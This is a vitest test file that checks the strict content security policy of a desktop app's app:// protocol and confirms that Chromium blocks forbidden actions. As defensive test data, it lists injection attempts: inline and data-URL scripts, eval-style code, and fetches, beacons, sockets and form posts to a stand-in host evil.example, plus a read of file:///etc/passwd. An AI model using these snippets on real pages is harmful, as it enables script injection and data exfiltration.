/** The content security policy of everything that app:// answers, and what Chromium blocks because of it. */

import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { rendererBundle } from '../bundles.ts'
import { closeChromium, temporaryFolder } from '../desktop-app.ts'
import { launchShell, type ShellApp } from '../shell-app.ts'

const folder = temporaryFolder()
let app: ShellApp

beforeAll(async () => {
  app = await launchShell(folder.path)
  await app.page.evaluate(`
    window.violated = []
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))`)
})
afterAll(async () => {
  await app.end()
  await closeChromium()
  folder.remove()
})

const answered = async (url: string, method = 'GET') =>
  (await app.screen.act('request', url, method)) as { readonly status: number; readonly headers: Readonly<Record<string, string>> }

const served = readdirSync(rendererBundle, { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile())
  .map((entry) => join(entry.parentPath, entry.name).slice(rendererBundle.length))

describe('the policy of app://, on the double of Electron', () => {
  it.each([
    ...served.map((path) => `app://bundle${path}`),
    'app://bundle/',
    'app://bundle/missing.js',
    'app://bundle/%00',
    'app://other/',
    'app://error/?what=x',
    'app://error/log',
    'app://error/missing',
  ])('content security policy: comes with %s', async (url) => {
    for (const method of ['GET', 'HEAD', 'POST']) {
      const { headers } = await answered(url, method)
      const policy = headers['content-security-policy'] ?? ''
      expect(policy.startsWith("default-src 'none'; "), `${method} ${policy}`).toBe(true)
      expect(policy).toContain("frame-ancestors 'none'")
      expect(policy).not.toMatch(/unsafe-|https?:|\*|wasm|strict-dynamic/)
      expect(headers['x-content-type-options']).toBe('nosniff')
    }
  })

  it('content security policy: names a nonce for styles, a new one each time, and none for scripts', async () => {
    const nonces = new Set<string>()
    for (const url of ['app://bundle/index.html', 'app://bundle/index.html', 'app://error/?what=x']) {
      const policy = (await answered(url)).headers['content-security-policy'] ?? ''
      expect(policy).toContain("script-src 'self';")
      expect(policy).toContain("style-src-attr 'none';")
      nonces.add(/style-src-elem 'self' 'nonce-([\w-]{24})'/.exec(policy)?.[1] ?? '')
    }
    expect(nonces.size).toBe(3)
    expect(nonces.has('')).toBe(false)
  })
})

/** Each tries what the policy forbids; the directive is the one that Chromium names. The `ran` flag would show that it was not blocked. */
const attempts = [
  ['an inline script', 'script-src-elem', "make('script', { textContent: 'window.ran = 1' })"],
  ['a script of the network', 'script-src-elem', "make('script', { src: 'https://evil.example/x.js' })"],
  ['a script as data', 'script-src-elem', "make('script', { src: 'data:text/javascript,window.ran=1' })"],
  ['a script from a blob', 'script-src-elem', "make('script', { src: URL.createObjectURL(new Blob(['window.ran = 1'])) })"],
  ['a module as data', 'script-src-elem', "import('data:text/javascript,window.ran=1').catch(() => 0)"],
  ['an inline handler', 'script-src-attr', "make('img', { src: 'data:,' }).setAttribute('onerror', 'window.ran = 1')"],
  ['a javascript: link', 'script-src-elem', "make('a', { href: 'javascript:window.ran = 1' }).click()"],
  ['code made of text', 'script-src', "try { new Function('window.ran = 1')() } catch {}"],
  ['a timer with text', 'script-src', "try { setTimeout('window.ran = 1') } catch {}"],
  ['an inline style', 'style-src-elem', "make('style', { textContent: 'body { color: red }' })"],
  ['a style attribute', 'style-src-attr', "make('p', {}).setAttribute('style', 'color: red')"],
  ['a style sheet of the network', 'style-src-elem', "make('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })"],
  ['a picture of the network', 'img-src', "make('img', { src: 'https://evil.example/x.png' })"],
  ['a frame', 'frame-src', "make('iframe', { src: 'https://evil.example/' })"],
  ['a frame of our own', 'frame-src', "make('iframe', { src: './index.html' })"],
  ['an object', 'object-src', "make('object', { data: 'https://evil.example/x' })"],
  ['a base', 'base-uri', "make('base', { href: 'https://evil.example/' })"],
  ['a form', 'form-action', "make('form', { action: 'https://evil.example/', method: 'post' }).submit()"],
  ['a video', 'media-src', "make('video', { src: 'https://evil.example/x.mp4' })"],
  ['a fetch', 'connect-src', "fetch('https://evil.example/').catch(() => 0)"],
  ['a fetch of a file', 'connect-src', "fetch('file:///etc/passwd').catch(() => 0)"],
  ['a beacon', 'connect-src', "navigator.sendBeacon('https://evil.example/', 'x')"],
  ['a socket', 'connect-src', "try { new WebSocket('wss://evil.example/') } catch {}"],
  ['a stream of events', 'connect-src', "new EventSource('https://evil.example/')"],
  ['a font', 'font-src', "new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => 0)"],
  ['a worker from a blob', 'worker-src', "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}"],
] as const

describe('what Chromium blocks in our page, on the double of Electron', () => {
  it.each(attempts)('content security policy: %s is blocked by %s', async (_what, directive, attempt) => {
    // As a task of the page: what the debugger evaluates is exempt from the policy.
    await app.page.evaluate(`new Promise((resolve) => setTimeout(() => {
      violated.length = 0
      const make = (tag, fields) => {
        const made = Object.assign(document.createElement(tag), fields)
        document.body.append(made)
        return made
      }
      ${attempt}
      resolve()
    }))`)
    await expect.poll(() => app.page.evaluate('violated.slice()')).toContain(directive)
    expect(await app.page.evaluate('typeof window.ran')).toBe('undefined')
    expect(app.screen.blocked).toEqual([])
  })
})
